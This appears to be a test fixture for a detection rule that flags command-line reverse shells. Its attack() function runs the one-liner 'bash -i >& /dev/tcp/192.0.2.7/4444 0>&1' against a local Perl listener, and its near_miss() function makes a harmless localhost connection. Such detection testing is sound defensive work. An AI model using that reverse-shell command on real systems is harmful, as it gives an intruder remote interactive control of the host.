# rule: Reverse shell on the command line
# where: host
# needs: bash perl
attack() {
    echo '
    use IO::Socket;
    my $l = IO::Socket::INET->new(LocalAddr => "0.0.0.0", LocalPort => 4444, Listen => 1, ReuseAddr => 1) or die;
    open(R, ">", "ready"); close R; alarm 8;
    my $c = $l->accept;
    print $c "exit 0\n";
    $c->flush; shutdown($c, 1); 1 while <$c>;
    ' > master.pl
    perl master.pl &
    while [ ! -e ready ]; do sleep 0.05; done
    bash -c 'bash -i >& /dev/tcp/192.0.2.7/4444 0>&1' || :
}
near_miss() {
    echo '
    use IO::Socket;
    my $l = IO::Socket::INET->new(LocalAddr => "0.0.0.0", LocalPort => 4444, Listen => 1, ReuseAddr => 1) or die;
    open(R, ">", "ready"); close R; alarm 8;
    my $c = $l->accept;
    print $c "exit 0\n";
    $c->flush; shutdown($c, 1); 1 while <$c>;
    ' > master.pl
    perl master.pl &
    while [ ! -e ready ]; do sleep 0.05; done
    bash -c ': < /dev/tcp/127.0.0.1/4444'
}
